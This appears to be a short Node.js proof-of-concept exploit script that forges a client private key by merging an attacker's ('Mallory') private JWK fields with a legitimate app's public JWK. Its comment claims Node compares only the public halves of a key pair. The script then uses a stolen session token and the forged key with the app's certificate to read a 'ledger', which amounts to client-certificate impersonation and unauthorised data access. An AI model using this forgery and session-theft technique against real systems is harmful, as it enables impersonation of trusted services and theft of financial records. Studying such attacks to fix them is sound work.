import { createPrivateKey, createPublicKey } from 'node:crypto';
import { pem } from '../pem.js';
import { readLedger, stealSession } from './tools.js';

//#region forge
// Node compares public halves. So give it the app's public half, and what is Mallory's for the rest.
const appPublic = createPublicKey(pem('tally-app.pem')).export({ format: 'jwk' });
const malloryPrivate = createPrivateKey(pem('mallory-app.key.pem')).export({ format: 'jwk' });
const forged = createPrivateKey({ key: { ...malloryPrivate, ...appPublic }, format: 'jwk' });
//#endregion

const { token } = await stealSession();
await readLedger(token, {
  cert: pem('tally-app.pem'),
  key: String(forged.export({ type: 'pkcs8', format: 'pem' })),
});
